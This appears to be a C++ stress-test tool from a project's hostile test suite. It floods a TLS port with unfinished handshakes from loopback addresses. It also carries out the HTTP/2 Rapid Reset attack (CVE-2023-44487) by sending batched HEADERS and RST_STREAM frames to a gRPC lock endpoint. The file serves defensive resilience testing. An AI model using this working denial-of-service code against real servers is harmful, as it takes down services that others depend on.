// Load generator of the hostile tests. Attacks a TLS port and prints its counters as a JSON object.
//
//     tenure_flood handshakes HOST:PORT SECONDS RATE ALPN
//         Begins RATE TLS handshakes per second and completes none of them. All send the same
//         ClientHello, so that an attempt costs the client a connection and the server a key
//         exchange and a signature. The connections come from 127.0.0.2 to 127.0.0.9.
//     tenure_flood resets HOST:PORT SECONDS
//         Opens HTTP/2 streams and resets them at once (CVE-2023-44487) until the server closes the
//         connection, then connects again.

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <exception>
#include <iostream>
#include <stdexcept>
#include <string>
#include <string_view>
#include <tuple>
#include <utility>
#include <vector>

#include <boost/asio/as_tuple.hpp>
#include <boost/asio/awaitable.hpp>
#include <boost/asio/buffer.hpp>
#include <boost/asio/co_spawn.hpp>
#include <boost/asio/detached.hpp>
#include <boost/asio/io_context.hpp>
#include <boost/asio/ip/tcp.hpp>
#include <boost/asio/ssl/context.hpp>
#include <boost/asio/ssl/stream.hpp>
#include <boost/asio/steady_timer.hpp>
#include <boost/asio/use_awaitable.hpp>
#include <boost/asio/write.hpp>
#include <openssl/ssl.h>

namespace tenure::test {
namespace {

namespace asio = boost::asio;
using asio::ip::tcp;
using Clock = std::chrono::steady_clock;
using Seconds = std::chrono::duration<double>;

constexpr auto as_result = asio::as_tuple(asio::use_awaitable);

tcp::endpoint parse_endpoint(const std::string& text) {
  const auto colon = text.rfind(':');
  return {asio::ip::make_address(text.substr(0, colon)),
          static_cast<std::uint16_t>(std::stoul(text.substr(colon + 1)))};
}

/// Protocol list in the format of ALPN.
std::string alpn_list(std::string_view protocol) {
  return static_cast<char>(protocol.size()) + std::string(protocol);
}

/// First message of a TLS 1.3 client.
std::string client_hello(std::string_view protocol) {
  asio::ssl::context context(asio::ssl::context::tls_client);
  auto* const tls = SSL_new(context.native_handle());
  const auto list = alpn_list(protocol);
  SSL_set_alpn_protos(tls, reinterpret_cast<const unsigned char*>(list.data()),
                      static_cast<unsigned int>(list.size()));
  SSL_set_bio(tls, BIO_new(BIO_s_mem()), BIO_new(BIO_s_mem()));
  SSL_set_connect_state(tls);
  SSL_do_handshake(tls);
  char* bytes = nullptr;
  const auto size = BIO_get_mem_data(SSL_get_wbio(tls), &bytes);
  std::string hello(bytes, static_cast<std::size_t>(size));
  SSL_free(tls);
  return hello;
}

/// Begins handshakes at a fixed rate from a fixed number of coroutines.
class HandshakeFlood {
 public:
  struct Options {
    tcp::endpoint target;
    Seconds duration{};
    double rate = 0;  ///< Handshakes per second.
    std::string protocol;
  };

  explicit HandshakeFlood(Options options)
      : options_(std::move(options)), hello_(client_hello(options_.protocol)) {}

  void run() {
    for (std::size_t i = 0; i < in_progress_max; ++i) {
      asio::co_spawn(loop_, attack_again(), asio::detached);
    }
    loop_.run_for(std::chrono::duration_cast<Clock::duration>(options_.duration));
    const Seconds took = Clock::now() - begin_;
    std::cout << "{\"attempts\": " << attempts_ << ", \"answered\": " << answered_
              << ", \"refused\": " << refused_ << ", \"seconds\": " << took.count() << "}\n";
  }

 private:
  static constexpr std::size_t in_progress_max = 256;
  static constexpr std::uint64_t sources = 8;

  asio::awaitable<void> attack_again() {
    asio::steady_timer timer(loop_);
    for (;;) {
      const auto number = next_++;
      timer.expires_at(begin_ + std::chrono::duration_cast<Clock::duration>(
                                    Seconds(static_cast<double>(number) / options_.rate)));
      co_await timer.async_wait(as_result);
      co_await attack(static_cast<std::uint32_t>(number % sources));
    }
  }

  asio::awaitable<void> attack(std::uint32_t source) {
    tcp::socket socket(loop_, tcp::v4());
    boost::system::error_code error;
    // Closing resets the connection and leaves no port in TIME_WAIT.
    socket.set_option(asio::socket_base::linger(true, 0), error);
    socket.set_option(
        asio::detail::socket_option::boolean<IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT>(true), error);
    socket.bind({asio::ip::address_v4(0x7F000002U + source), 0}, error);
    std::tie(error) = co_await socket.async_connect(options_.target, as_result);
    if (error) {
      ++refused_;
      co_return;
    }
    std::size_t size = 0;
    std::tie(error, size) = co_await asio::async_write(socket, asio::buffer(hello_), as_result);
    ++attempts_;
    std::array<char, 16> answer{};
    if (!error) {
      std::tie(error, size) = co_await socket.async_read_some(asio::buffer(answer), as_result);
    }
    ++(error ? refused_ : answered_);
  }

  const Options options_;
  const std::string hello_;
  asio::io_context loop_{1};
  const Clock::time_point begin_ = Clock::now();
  std::uint64_t next_ = 0;
  std::uint64_t attempts_ = 0;  ///< ClientHellos that were sent.
  std::uint64_t answered_ = 0;  ///< The server has computed its part of the handshake.
  std::uint64_t refused_ = 0;   ///< The server closed the connection without an answer.
};

/// Resets streams on one connection after the other.
class ResetFlood {
 public:
  ResetFlood(tcp::endpoint target, Seconds duration)
      : target_(std::move(target)), duration_(duration) {
    const auto list = alpn_list("h2");
    SSL_CTX_set_alpn_protos(context_.native_handle(),
                            reinterpret_cast<const unsigned char*>(list.data()),
                            static_cast<unsigned int>(list.size()));
  }

  void run() {
    const auto begin = Clock::now();
    asio::co_spawn(loop_, attack_again(), asio::detached);
    loop_.run_for(std::chrono::duration_cast<Clock::duration>(duration_));
    const Seconds took = Clock::now() - begin;
    std::cout << "{\"resets\": " << resets_ << ", \"disconnections\": " << disconnections_
              << ", \"seconds\": " << took.count() << "}\n";
  }

 private:
  static constexpr std::uint32_t streams_per_write = 500;

  /// Frame header of RFC 9113, section 4.1.
  static void append_frame(std::string& out, std::array<char, 2> kind_and_flags,
                           std::uint32_t stream, std::string_view payload) {
    for (const auto shift : {16U, 8U, 0U}) {
      out += static_cast<char>(payload.size() >> shift & 0xFFU);
    }
    out.append(kind_and_flags.data(), kind_and_flags.size());
    append_number(out, stream);
    out += payload;
  }
  static void append_number(std::string& out, std::uint32_t number) {
    for (const auto shift : {24U, 16U, 8U, 0U}) {
      out += static_cast<char>(number >> shift & 0xFFU);
    }
  }
  /// Header field of RFC 7541, section 6.2.2, with a name of the static table or a new one.
  static std::string literal(std::string_view name, std::string_view value) {
    std::string line(1, '\0');
    line += static_cast<char>(name.size());
    line += name;
    line += static_cast<char>(value.size());
    line += value;
    return line;
  }

  static std::string resets_from(std::uint32_t first_stream) {
    constexpr std::array<char, 2> headers{1, 4};  // END_HEADERS
    constexpr std::array<char, 2> reset{3, 0};
    constexpr std::uint32_t cancel = 8;
    // :method POST and :scheme http are entries 3 and 6 of the static table.
    static const std::string block = std::string("\x83\x86") + literal(":authority", "x") +
                                     literal(":path", "/tenure.v1.LockService/Lock") +
                                     literal("content-type", "application/grpc");
    std::string code;
    append_number(code, cancel);
    std::string out;
    for (std::uint32_t i = 0; i < streams_per_write; ++i) {
      append_frame(out, headers, first_stream + (2 * i), block);
      append_frame(out, reset, first_stream + (2 * i), code);
    }
    return out;
  }

  asio::awaitable<void> attack_again() {
    for (;;) {
      co_await attack();
      ++disconnections_;
    }
  }

  asio::awaitable<void> attack() {
    asio::ssl::stream<tcp::socket> stream(loop_, context_);
    auto [error] = co_await stream.next_layer().async_connect(target_, as_result);
    if (!error) {
      std::tie(error) = co_await stream.async_handshake(asio::ssl::stream_base::client, as_result);
    }
    std::string bytes = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    append_frame(bytes, {4, 0}, 0, {});
    for (std::uint32_t first = 1; !error; first += 2 * streams_per_write) {
      bytes += resets_from(first);
      std::size_t size = 0;
      std::tie(error, size) = co_await asio::async_write(stream, asio::buffer(bytes), as_result);
      resets_ += error ? 0 : streams_per_write;
      bytes.clear();
    }
  }

  const tcp::endpoint target_;
  const Seconds duration_;
  asio::io_context loop_{1};
  asio::ssl::context context_{asio::ssl::context::tls_client};
  std::uint64_t resets_ = 0;
  std::uint64_t disconnections_ = 0;
};

int run(const std::vector<std::string>& arguments) {
  if (arguments.size() == 5 && arguments[0] == "handshakes") {
    HandshakeFlood({.target = parse_endpoint(arguments[1]),
                    .duration = Seconds(std::stod(arguments[2])),
                    .rate = std::stod(arguments[3]),
                    .protocol = arguments[4]})
        .run();
    return 0;
  }
  if (arguments.size() == 3 && arguments[0] == "resets") {
    ResetFlood(parse_endpoint(arguments[1]), Seconds(std::stod(arguments[2]))).run();
    return 0;
  }
  std::cerr << "usage: tenure_flood handshakes HOST:PORT SECONDS RATE ALPN\n"
               "       tenure_flood resets HOST:PORT SECONDS\n";
  return 64;
}

}  // namespace
}  // namespace tenure::test

int main(int count, char** arguments) {
  try {
    return tenure::test::run({arguments + 1, arguments + count});
  } catch (const std::exception& error) {
    std::cerr << "tenure_flood: " << error.what() << '\n';
    return 1;
  }
}
